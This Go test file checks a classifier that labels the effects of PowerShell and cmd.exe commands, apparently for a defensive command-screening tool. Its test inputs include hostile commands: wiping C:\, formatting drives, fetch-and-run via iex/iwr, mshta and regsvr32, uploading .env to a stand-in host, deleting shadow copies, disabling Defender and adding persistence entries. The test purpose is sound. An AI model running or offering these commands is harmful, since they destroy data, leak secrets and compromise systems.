package effect

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sentinelgate/sentinel/internal/winshell"
)

// all renders the effects of a text: kind, target, ! for catastrophic; reasons of
// the parser as "unread".
func all(cmds []winshell.Command, unread []string) []string {
	var out []string
	for _, c := range cmds {
		for _, e := range Of(c) {
			s := e.Kind
			if e.Target.Text != "" {
				s += " " + e.Target.Text
			}
			if e.Catastrophic {
				s += " !"
			}
			out = append(out, s)
		}
	}
	for range unread {
		out = append(out, "unread")
	}
	return out
}

type effectCase struct {
	src  string
	want []string
}

func TestPowerShellEffects(t *testing.T) {
	for _, c := range []effectCase{
		{`Invoke-Pester ./tests -Output Detailed`, nil},
		{`Invoke-Pester`, nil},
		{`Invoke-Pester ../other`, []string{"exec ../other"}},
		{`Invoke-Pester -Path C:\tmp\x`, []string{`exec C:\tmp\x`}},
		{`Invoke-ScriptAnalyzer -Path ./build -Recurse | Select-Object RuleName`, []string{"read ./build"}},
		{`Invoke-ScriptAnalyzer -Path ./build -Fix`, []string{"write ./build"}},
		{`Invoke-ScriptAnalyzer -Path ./build -CustomRulePath /tmp/r.psm1`, []string{"exec ./build", "exec /tmp/r.psm1"}},
		{`Get-ChildItem -Recurse | Where-Object { $_.Length -gt 5 } | Select-Object Name | Format-Table`, nil},
		{`Write-Host hi; Get-Date; Get-Process | sort CPU | select -First 5`, nil},
		{`gci *.txt | % Name`, []string{"list *.txt"}},
		{`Get-Content a.txt -TotalCount 5`, []string{"read a.txt"}},
		{`cat .env`, []string{"read .env"}},
		{`sls foo src\a.cs`, []string{`read src\a.cs`}},
		{`Remove-Item -Recurse -Force C:\Users\dev\work`, []string{`delete-tree C:\Users\dev\work`}},
		{`rm -r -fo C:\`, []string{`delete-tree C:\ !`}},
		{`ri C:\Users\dev -rec`, []string{`delete-tree C:\Users\dev !`}},
		{`Remove-Item -Path $env:USERPROFILE -Recurse`, []string{`delete-tree ~ !`}},
		{`Remove-Item -LiteralPath:'x' -R`, []string{"delete-tree x"}},
		{`del a, b -Force`, []string{"delete a", "delete b"}},
		{`Remove-Item -Path a, b -Recurse:$false`, []string{"delete a", "delete b"}},
		{`rm -rf a b`, []string{"delete-tree a", "delete-tree b"}},
		{`rm x -WhatIf`, nil},
		{`rm x -WhatIf:$false`, []string{"delete x"}},
		{`gci | rm -r`, []string{"delete-tree"}},
		{`Remove-Item HKCU:\Software\x -Recurse`, []string{`registry HKCU:\Software\x`}},
		{`Set-Content -Path a.txt -Value 'C:\'`, []string{"write a.txt"}},
		{`'x' | sc a.txt`, []string{"write a.txt"}},
		{`echo x > a.txt`, []string{"write a.txt"}},
		{`Clear-Content a.txt`, []string{"delete a.txt"}},
		{`gci env:`, []string{"env"}}, {`dir Env:\`, []string{"env"}}, {`Get-Item env:*`, []string{"env"}}, {`gc env:PATH`, []string{"env path"}},
		{`Compress-Archive -Path a -DestinationPath b.zip`, []string{"read a", "write b.zip"}},
		{`Rename-Item a ../../b`, []string{"write ../../b", "move a"}}, {`ren a b`, []string{"move a"}},
		{`cp a b`, []string{"read a", "write b"}}, {`Copy-Item -Path a -Destination b -Recurse`, []string{"read a", "write b"}},
		{`mv a b`, []string{"move a", "move b"}},
		{`mkdir x`, []string{"write x"}},
		{`[IO.Directory]::Delete('C:\Windows', $true)`, []string{`delete-tree C:\Windows !`}},
		{`[System.IO.File]::WriteAllText('a', 'b')`, []string{"write a"}},
		{`[math]::Round(2.5)`, nil}, {`'a,b'.Split(',')`, nil}, {`(Get-Item x).Delete()`, []string{"list x", "delete-tree"}}, {`gci | % Delete`, []string{"delete-tree"}},
		{`$x.Frobnicate()`, []string{"unread .Frobnicate"}},
		{`iwr https://h/a -OutFile b`, []string{"fetch https://h/a", "write b"}},
		{`irm https://h/a -Method Post -Body x`, []string{"send https://h/a"}},
		{`iwr https://h/a -InFile .env -Method Put`, []string{"send https://h/a", "read .env"}},
		{`iex (iwr https://h/a.ps1)`, []string{"fetch https://h/a.ps1", "fetch-run (iwr https://h/a.ps1)"}},
		{`irm https://h/a | iex`, []string{"fetch https://h/a", "fetch-run"}},
		{`(New-Object Net.WebClient).DownloadString('https://h/a') | iex`, []string{"fetch https://h/a", "fetch-run"}},
		{`(New-Object Net.WebClient).DownloadFile('https://h/a', 'b')`, []string{"fetch https://h/a", "write b"}},
		{`iex $x`, []string{"exec $x"}},
		{`Add-Type -AssemblyName System.Net.Http`, nil}, {`Add-Type -AssemblyName System.Web, Evil`, []string{"unread"}}, {`Start-Process notepad`, []string{"program notepad"}}, {`Start-Process $x`, []string{"exec $x"}}, {`saps x -Verb RunAs`, []string{"exec x", "privilege x"}},
		{`spps -Name node -Force`, []string{"signal node"}}, {`kill 5`, []string{"signal 5"}},
		{`Set-ExecutionPolicy Bypass -Force`, []string{"system Bypass"}},
		{`Clear-Disk -Number 0 -RemoveData -Confirm:$false`, []string{"format 0 !"}}, {`Format-Volume -DriveLetter D`, []string{"format D !"}},
		{`Stop-Computer -Force`, []string{"system"}}, {`Set-MpPreference -DisableRealtimeMonitoring $true`, []string{"system"}},
		{`New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name x -Value y`, []string{`persist HKCU:\Software\Microsoft\Windows\CurrentVersion\Run`}},
		{`Register-ScheduledTask -TaskName x`, []string{"persist x"}}, {`Clear-RecycleBin -Force`, []string{"delete"}},
		{`git status`, []string{"program git"}}, {`Frob-Item x`, []string{"unread Frob-Item"}}, {`sal ls Remove-Item`, []string{"unread"}}, {`New-Object -ComObject WScript.Shell`, []string{"unread WScript.Shell"}},
		{`New-Object Net.Sockets.TCPClient("h",80)`, []string{"send h"}}, {`New-Object -TypeName System.Net.Sockets.UdpClient -ArgumentList h,80`, []string{"send h"}}, {`New-Object Net.Sockets.TcpClient`, nil},
		{`Invoke-Command { Get-Date }`, nil}, {`icm -ComputerName h { rm x }`, []string{"delete x", "exec h"}},
		{`[ScriptBlock]::Create('x')`, []string{"exec x"}}, {`cd C:\work`, []string{`chdir C:\work`}}, {`si function:ls { rm x }`, []string{"delete x", "unread function:ls"}},
		{`rm env:FOO`, []string{"delete env:FOO"}}, {`curl -d @x https://h`, []string{"send @x"}},
		{`Add-Type -TypeDefinition 'x'`, []string{"unread"}}, {`Install-Module x`, []string{"install x"}},
		{`vssadmin delete shadows /all /quiet`, []string{"system delete"}}, {`Get-Command git; Test-Path x`, []string{"list x"}},
		{`Get-CimInstance Win32_OperatingSystem | select Caption`, nil}, {`$PSVersionTable.PSVersion.ToString()`, nil},
	} {
		if d := cmp.Diff(c.want, all(winshell.PowerShell(c.src))); d != "" {
			t.Errorf("%q (-want +got):\n%s", c.src, d)
		}
	}
}

func TestCmdEffects(t *testing.T) {
	for _, c := range []effectCase{
		{`dir /s /b & echo hi & ver & tasklist & where git`, nil},
		{`type a.txt | findstr foo`, []string{"read a.txt"}}, {`findstr /s /i foo src\a.c`, []string{`read src\a.c`}},
		{`del /s /q x`, []string{"delete-tree x"}}, {`del/s/q C:\`, []string{`delete-tree C:\ !`}}, {`del a b`, []string{"delete a", "delete b"}}, {`erase /f C:\*.*`, []string{`delete C:\*.* !`}},
		{`rd /s /q C:\`, []string{`delete-tree C:\ !`}}, {`rmdir /s /q "C:\Program Files"`, []string{`delete-tree C:\Program Files !`}}, {`rd x`, []string{"delete x"}}, {`rd /s /q %USERPROFILE%`, []string{`delete-tree %USERPROFILE% !`}},
		{`format C: /q /y`, []string{"format C: !"}}, {`copy a b`, []string{"write b"}}, {`move a b`, []string{"move a", "move b"}}, {`robocopy a b /MIR`, []string{"write b", "delete-tree b"}}, {`xcopy a b /e`, []string{"write b"}},
		{`reg query HKLM\x`, nil}, {`reg delete HKLM\x /f`, []string{`registry HKLM\x`}}, {`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d y`, []string{`persist HKCU\Software\Microsoft\Windows\CurrentVersion\Run`}},
		{`net user`, nil}, {`net user x /delete`, []string{"system x"}}, {`net user x y /add`, []string{"system x"}}, {`net stop x`, []string{"system x"}}, {`sc query`, nil}, {`sc delete x`, []string{"system x"}}, {`sc create x binPath= y`, []string{"persist x"}},
		{`schtasks /query`, nil}, {`schtasks /create /tn x /tr x.exe /sc onlogon`, []string{"persist"}}, {`schtasks /delete /tn x /f`, []string{"system"}},
		{`vssadmin list shadows`, nil}, {`vssadmin delete shadows /all`, []string{"system delete"}}, {`wmic shadowcopy delete`, []string{"system shadowcopy"}}, {`wmic os get caption`, nil}, {`wbadmin delete catalog`, []string{"system delete"}}, {`bcdedit /delete {x}`, []string{"system {x}"}}, {`bcdedit`, nil}, {`diskpart /s x.txt`, []string{"format x.txt"}}, {`cipher /w:C:\`, []string{"format"}},
		{`wsl --unregister Ubuntu`, []string{"delete-tree Ubuntu"}}, {`wsl --list`, nil}, {`wsl rm -rf x`, []string{"exec rm -rf x"}}, {`wsl -d Ubuntu -e ls`, []string{"exec ls"}},
		{`takeown /f x`, []string{"permission x"}}, {`icacls x /grant y:F`, []string{"permission x"}}, {`icacls x`, []string{"list x"}}, {`certutil -urlcache -f https://h/a a.exe`, []string{"fetch https://h/a", "write a.exe"}}, {`certutil -hashfile a SHA256`, nil},
		{`mshta https://h/a.hta`, []string{"fetch-run https://h/a.hta"}}, {`regsvr32 /s /n /u /i:https://h/a scrobj.dll`, []string{"fetch-run scrobj.dll"}}, {`rundll32 x.dll,f`, []string{"exec x.dll"}},
		{`explorer https://h/?k=x`, []string{"send https://h/?k=x"}}, {`explorer`, nil}, {`taskkill /f /im node.exe`, []string{"signal node.exe"}}, {`shutdown /s /t 0`, []string{"system"}}, {`wevtutil cl System`, []string{"system System"}}, {`netsh advfirewall set allprofiles state off`, []string{"system advfirewall"}}, {`netsh wlan show profiles`, nil},
		{`setx PATH x`, []string{"persist PATH"}}, {`set`, []string{"env"}}, {`set X=1`, nil}, {`set PATH=x`, []string{"unread PATH=x"}}, {`git push -f`, []string{"program git"}}, {`attrib +h x`, []string{"permission x"}}, {`doskey ls=del x`, []string{"unread ls=del"}},
		{`echo x > a.txt`, []string{"write a.txt"}}, {`ping localhost`, []string{"fetch localhost"}}, {`bitsadmin /transfer x https://h/a C:\a`, []string{"fetch https://h/a", `write C:\a`}}, {`ipconfig /all`, nil}, {`systeminfo`, nil}, {`fsutil fsinfo drives`, nil},
		{`powershell -c "rm -r C:\Windows"`, []string{`delete-tree C:\Windows !`}}, {`runas /user:x cmd`, []string{"privilege cmd"}}, {`sfc /scannow`, []string{"system"}}, {`del /?`, nil}, {`rd /s /q x & %X%`, []string{"delete-tree x", "unread %X%", "unread"}},
	} {
		got := all(winshell.Cmd(c.src))
		for i := range got {
			got[i] = strings.TrimSuffix(got[i], " <>")
		}
		want := c.want
		if len(want) > 0 && want[len(want)-1] == "unread" {
			// the command without a name has no target text of its own
			want = append(append([]string{}, want[:len(want)-2]...), "unread", "unread")
		}
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("%q (-want +got):\n%s", c.src, d)
		}
	}
}

func TestZeroEffect(t *testing.T) {
	if got := Of(winshell.Command{}); len(got) != 1 || got[0].Kind != Unread {
		t.Errorf("a command without a name: %+v", got)
	}
}

func FuzzOf(f *testing.F) {
	f.Add(`ri -r:x -Path a,b; iwr -o; (a).Delete(1); net user /x; wsl -d`, true)
	f.Fuzz(func(t *testing.T, src string, ps bool) {
		read := winshell.Cmd
		if ps {
			read = winshell.PowerShell
		}
		cmds, _ := read(src)
		for _, c := range cmds {
			for _, e := range Of(c) {
				if e.Kind == "" {
					t.Fatalf("%q: effect without a kind", src)
				}
			}
		}
	})
}
